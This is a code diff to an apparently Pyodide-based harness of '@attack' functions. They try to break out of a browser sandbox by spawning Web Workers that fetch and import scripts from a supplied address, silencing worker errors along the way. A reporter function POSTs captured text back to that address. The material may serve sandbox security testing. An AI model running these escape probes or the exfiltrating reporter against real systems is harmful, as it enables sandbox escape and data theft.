@@ -353,28 +353,38 @@ async def read_async_of_emscripten(at, read):
 # -- workers in the worker -----------------------------------------------------------
 
 
+def quiet(there):
+    """Keep what a worker fails at from ending the one that it is in."""
+    there.onerror = create_proxy(lambda event: event.preventDefault())
+    return there
+
+
+def worker(address, **options):
+    return quiet(js.Worker.new(address, plain(**options)))
+
+
 def asking(at):
     return f"fetch('{at}').catch(() => 0); try {{ importScripts('{at}x.js') }} catch {{}}"
 
 
 @attack
 async def classic_blob_worker(at, read):
-    js.Worker.new(blob(asking(at)))
+    worker(blob(asking(at)))
 
 
 @attack
 async def module_blob_worker(at, read):
-    js.Worker.new(blob(f"import '{at}x.js'"), plain(type="module"))
+    worker(blob(f"import '{at}x.js'"), type="module")
 
 
 @attack
 async def data_worker(at, read):
-    js.Worker.new("data:text/javascript," + js.encodeURIComponent(asking(at)))
+    worker("data:text/javascript," + js.encodeURIComponent(asking(at)))
 
 
 @attack
 async def worker_of_the_prototype(at, read):
-    js.Reflect.construct(recovered("Worker"), to_js([blob(asking(at))]))
+    quiet(js.Reflect.construct(recovered("Worker"), to_js([blob(asking(at))])))
 
 
 @attack
@@ -385,7 +395,7 @@ async def shared_worker(at, read):
 @attack
 async def worker_of_the_sites_own_scripts(at, read):
     for address in GIVEN["scripts"]:
-        there = js.Worker.new(address, plain(type="module"))
+        there = worker(address, type="module")
         start = {
             "root": at,
             "live": {"runtime": "", "files": [], "python": ["x.js"], "info": {}},
@@ -648,7 +658,7 @@ async def hold_a_lock(at, read):
 
 @attack
 async def free_javascript(at, read):
-    there = js.Worker.new(blob(GIVEN["javascript"]))
+    there = worker(blob(GIVEN["javascript"]))
     FOUND["worker"] = there
     FOUND["free"] = {}
 
@@ -664,7 +674,9 @@ async def carried_out(name, function):
     note = FOUND[name] = {"read": [], "end": "begun"}
 
     def read(text):
-        note["read"].append(str(text)[:1500])
+        if str(text)[:9000] in note["read"]:
+            return
+        note["read"].append(str(text)[:9000])
         try:
             js.fetch(at, plain(method="POST", body="read: " + str(text)))
         except BaseException:
